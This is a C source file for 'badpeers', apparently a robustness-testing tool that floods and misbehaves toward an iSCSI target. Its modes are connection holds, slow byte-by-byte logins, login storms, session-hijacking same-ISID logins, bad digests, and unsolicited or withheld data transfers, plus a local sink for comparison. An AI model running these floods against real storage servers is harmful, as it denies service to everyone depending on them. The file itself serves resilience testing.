/*
 * badpeers: behaves towards an iSCSI target as no initiator should, steadily and without end, so that one can see what that costs others.
 *
 *   gcc -O2 -Wall -o badpeers badpeers.c
 *   badpeers [options] KIND HOST PORT TARGET
 *   badpeers sink HOST PORT            a stand-in that lets everybody log in and then reads and forgets: what the attack costs by itself
 *
 *   --seconds N     how long (3)
 *   --rate N        connections opened in a second at most (2000); for kinds with sessions, PDUs in a second for each (20000)
 *   --peers N       connections at once (kind's own number)
 *
 * Kinds: hold     connections that say nothing, opened again when they are closed
 *        connect  connect and close
 *        garbage  something that is no iSCSI
 *        drip     a Login Request of which one byte comes each 100 ms
 *        unknown  logins for a target that does not exist
 *        nexus    logins of one and the same initiator port, each of which ends the session before
 *        logins   logins of ever new initiator ports, closed without a logout
 *        digest   a session whose first PDU has a wrong header digest
 *        pings    sessions that send pings of 4 KiB and read the answers
 *        deaf     sessions that send pings of 4 KiB and read nothing
 *        dataout  sessions that send Data-Out which nobody asked for
 *        writes   sessions that announce writes of 1 MiB and never send the data
 *
 * Prints one line: connections opened, of them closed by the target, PDUs sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BHS = 48, MOST = 19000, PDU_DATA = 4096 };
enum stage { FREE, CONNECTING, TALKING, IN_SESSION };
struct peer { int fd; enum stage stage; size_t sent; uint32_t tag; double next; size_t partial; };

static const char *kind, *target = "";
static struct sockaddr_in address;
static double seconds = 3, rate = -1;
static int peers_wanted = -1, epfd, is_sink;
static long opened, closed_on_us, pdus;
static struct peer peers[MOST];
static unsigned char request[2048], pdu[BHS + PDU_DATA], scratch[1 << 18];
static size_t request_bytes;
static uint64_t isid_counter;

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int is(const char *name) { return strcmp(kind, name) == 0; }

static void put32(unsigned char *at, uint32_t value) { value = htonl(value); memcpy(at, &value, 4); }

/* A whole login in one request: operational stage to full feature phase. */
static void make_request(void)
{
	char text[1024];
	int length = snprintf(text, sizeof text, "InitiatorName=iqn.2018-05.local:bad%cTargetName=%s%cSessionType=Normal%cHeaderDigest=%s%cInitialR2T=Yes%cImmediateData=No%c",
		0, is("unknown") ? "iqn.2018-05.local:nowhere" : target, 0, 0, is("digest") ? "CRC32C" : "None", 0, 0, 0);

	memset(request, 0, sizeof request);
	request[0] = 0x43;
	request[1] = 0x87;
	request[6] = (unsigned char)(length >> 8);
	request[7] = (unsigned char)length;
	request[8] = 0x80;
	put32(request + 16, 1);
	put32(request + 24, 1);
	memcpy(request + BHS, text, (size_t)length);
	request_bytes = BHS + (size_t)((length + 3) & ~3);
	if (is("garbage"))
		memset(request, 'G', request_bytes = 200);
}

static void new_port(void)
{
	uint64_t n = is("nexus") ? 1 : ++isid_counter;
	memcpy(request + 9, &n, 5);
}

static size_t make_pdu(struct peer *p)
{
	size_t data = is("pings") || is("deaf") || is("dataout") ? PDU_DATA : 0;

	memset(pdu, 0, BHS);
	pdu[0] = is("dataout") ? 0x05 : is("writes") ? 0x01 : 0x40;
	pdu[1] = is("writes") ? 0xA1 : 0x80;
	pdu[6] = (unsigned char)(data >> 8);
	pdu[7] = (unsigned char)data;
	put32(pdu + 16, 100 + p->tag);
	put32(pdu + 20, is("writes") ? 1 << 20 : 0xFFFFFFFF);
	put32(pdu + 24, is("writes") ? 1 + p->tag : 1);
	if (is("writes")) {
		pdu[32] = 0x8A;
		put32(pdu + 42, 2048);
	}
	p->tag++;
	return BHS + data + (is("digest") ? 4 : 0);
}

static void watch(struct peer *p, uint32_t events, int operation)
{
	struct epoll_event e = { .events = events, .data.ptr = p };
	epoll_ctl(epfd, operation, p->fd, &e);
}

static void let_go(struct peer *p)
{
	/* A flood of closed connections would use up the ports: no TIME_WAIT here. */
	struct linger at_once = { 1, 0 };
	setsockopt(p->fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
	close(p->fd);
	p->stage = FREE;
}

static void begin(struct peer *p)
{
	struct sockaddr_in from = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7F000001u + (uint32_t)(opened % 4)) };
	int one = 1;

	if ((p->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)) < 0) {
		perror("badpeers: socket");
		exit(2);
	}
	setsockopt(p->fd, IPPROTO_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &one, sizeof one);
	setsockopt(p->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	bind(p->fd, (struct sockaddr *)&from, sizeof from);
	p->sent = 0;
	p->tag = 0;
	p->partial = 0;
	p->stage = CONNECTING;
	opened++;
	if (connect(p->fd, (struct sockaddr *)&address, sizeof address) < 0 && errno != EINPROGRESS) {
		let_go(p);
		return;
	}
	watch(p, EPOLLOUT, EPOLL_CTL_ADD);
}

static void on_connected(struct peer *p)
{
	p->stage = TALKING;
	p->next = 0;
	if (is("connect")) {
		let_go(p);
		return;
	}
	watch(p, EPOLLIN, EPOLL_CTL_MOD);
	if (is("hold") || is("drip"))
		return;
	new_port();
	if (send(p->fd, request, request_bytes, MSG_NOSIGNAL) < 0)
		let_go(p);
}

static void on_input(struct peer *p)
{
	ssize_t got;

	if (p->stage == IN_SESSION && is("deaf"))
		return;
	got = recv(p->fd, scratch, sizeof scratch, 0);
	if (got < 0 && errno == EAGAIN)
		return;
	if (got <= 0) {
		closed_on_us++;
		let_go(p);
		return;
	}
	if (p->stage != TALKING || scratch[0] != 0x23 || scratch[36] != 0)
		return;
	p->stage = IN_SESSION;
	if (is("nexus") || is("logins"))
		let_go(p);
	else if (is("deaf"))
		watch(p, 0, EPOLL_CTL_MOD);
}

static void go_on(struct peer *p, double t)
{
	size_t bytes;
	ssize_t sent;

	if (t < p->next)
		return;
	if (p->stage == TALKING && is("drip")) {
		p->next = t + 0.1;
		if (p->sent < request_bytes && send(p->fd, request + p->sent, 1, MSG_NOSIGNAL) == 1)
			p->sent++;
	}
	if (p->stage != IN_SESSION)
		return;
	for (double due = t - p->next > 0.1 || p->next == 0 ? t : p->next; due <= t; due += 1 / rate) {
		p->next = due + 1 / rate;
		if (is("writes") && p->tag >= 128)
			return;
		if (is("digest") && p->tag > 0)
			return;
		if (p->partial == 0)
			p->partial = make_pdu(p);
		else
			make_pdu(p), p->tag--;
		bytes = BHS + (is("digest") ? 4 : is("writes") ? 0 : PDU_DATA);
		sent = send(p->fd, pdu + bytes - p->partial, p->partial, MSG_NOSIGNAL);
		if (sent < 0)
			return;
		if ((p->partial -= (size_t)sent) > 0)
			return;
		pdus++;
	}
}

static void attack(void)
{
	struct epoll_event events[512];
	double start = now(), last = start, allowance = 0;
	int has_sessions = is("pings") || is("deaf") || is("dataout") || is("writes");
	double opening = has_sessions || is("digest") ? 500 : rate > 0 ? rate : 2000;

	if (rate < 0)
		rate = 20000;
	if (peers_wanted < 0)
		peers_wanted = is("hold") ? 10000 : is("drip") ? 1000 : has_sessions ? 2 : 64;
	if (peers_wanted > MOST)
		peers_wanted = MOST;
	make_request();
	for (double t = start; t < start + seconds; t = now()) {
		int free_at = 0;
		allowance += (t - last) * opening;
		if (allowance > opening / 10)
			allowance = opening / 10;
		last = t;
		for (; allowance >= 1 && free_at < peers_wanted; free_at++)
			if (peers[free_at].stage == FREE) {
				begin(&peers[free_at]);
				allowance--;
			}
		int count = epoll_wait(epfd, events, 512, 1);
		for (int i = 0; i < count; i++) {
			struct peer *p = events[i].data.ptr;
			if (p->stage == CONNECTING && (events[i].events & EPOLLOUT) && !(events[i].events & EPOLLERR))
				on_connected(p);
			else if (p->stage == CONNECTING)
				let_go(p);
			else if (p->stage != FREE && (events[i].events & (EPOLLHUP | EPOLLERR)) && !(events[i].events & EPOLLIN)) {
				closed_on_us++;
				let_go(p);
			} else if (p->stage != FREE)
				on_input(p);
		}
		if (has_sessions || is("drip") || is("digest"))
			for (int i = 0; i < peers_wanted; i++)
				if (peers[i].stage >= TALKING)
					go_on(&peers[i], t);
	}
	printf("%ld opened, %ld closed by the target, %ld PDUs sent\n", opened, closed_on_us, pdus);
}

static void serve_as_sink(void)
{
	struct epoll_event events[512], e = { .events = EPOLLIN, .data.ptr = NULL };
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), one = 1;

	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 4096)) {
		perror("badpeers: sink");
		exit(2);
	}
	epoll_ctl(epfd, EPOLL_CTL_ADD, listener, &e);
	for (;;) {
		int count = epoll_wait(epfd, events, 512, -1);
		for (int i = 0; i < count; i++) {
			struct peer *p = events[i].data.ptr;
			if (!p) {
				int fd = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
				if (fd < 0 || fd >= MOST)
					continue;
				peers[fd].fd = fd;
				peers[fd].stage = TALKING;
				watch(&peers[fd], EPOLLIN, EPOLL_CTL_ADD);
				continue;
			}
			ssize_t got = recv(p->fd, scratch, sizeof scratch, 0);
			if (got <= 0 || (p->stage == TALKING && scratch[0] == 'G')) {
				close(p->fd);
				continue;
			}
			if (p->stage == TALKING && got >= BHS && scratch[0] == 0x43) {
				unsigned char answer[BHS] = { 0x23, 0x87 };
				memcpy(answer + 8, scratch + 8, 6);
				answer[15] = 1;
				memcpy(answer + 16, scratch + 16, 4);
				put32(answer + 28, 1);
				put32(answer + 32, 128);
				p->stage = IN_SESSION;
				if (send(p->fd, answer, BHS, MSG_NOSIGNAL) < 0)
					close(p->fd);
			}
		}
	}
}

int main(int argc, char **argv)
{
	static const struct option known[] = { { "seconds", 1, NULL, 't' }, { "rate", 1, NULL, 'r' }, { "peers", 1, NULL, 'n' }, { 0 } };
	struct rlimit files;

	for (int o; (o = getopt_long(argc, argv, "", known, NULL)) != -1;)
		switch (o) {
		case 't': seconds = atof(optarg); break;
		case 'r': rate = atof(optarg); break;
		case 'n': peers_wanted = atoi(optarg); break;
		default: exit(2);
		}
	if (argc - optind < 3) {
		fprintf(stderr, "usage: badpeers [options] KIND HOST PORT TARGET\n");
		exit(2);
	}
	kind = argv[optind];
	is_sink = is("sink");
	address.sin_family = AF_INET;
	inet_pton(AF_INET, argv[optind + 1], &address.sin_addr);
	address.sin_port = htons((uint16_t)atoi(argv[optind + 2]));
	if (!is_sink && argc - optind > 3)
		target = argv[optind + 3];
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	epfd = epoll_create1(0);
	if (is_sink)
		serve_as_sink();
	else
		attack();
	return 0;
}
